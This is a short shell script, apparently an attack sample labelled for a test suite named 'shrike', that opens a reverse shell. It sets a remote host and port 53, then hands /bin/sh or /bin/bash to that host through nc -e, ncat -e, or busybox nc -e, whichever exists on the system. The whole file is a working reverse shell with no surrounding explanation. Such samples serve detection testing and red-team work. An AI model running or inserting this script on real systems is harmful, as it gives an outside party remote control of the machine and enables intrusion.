# shrike-test-attack: reverse-shell: netcat -e with fallback between nc flavours
H=203.0.113.44
P=53
if nc -h 2>&1 | grep -q -- ' -e '; then
  nc -e /bin/sh $H $P
elif command -v ncat >/dev/null; then
  ncat $H $P -e /bin/bash
else
  busybox nc $H $P -e sh
fi
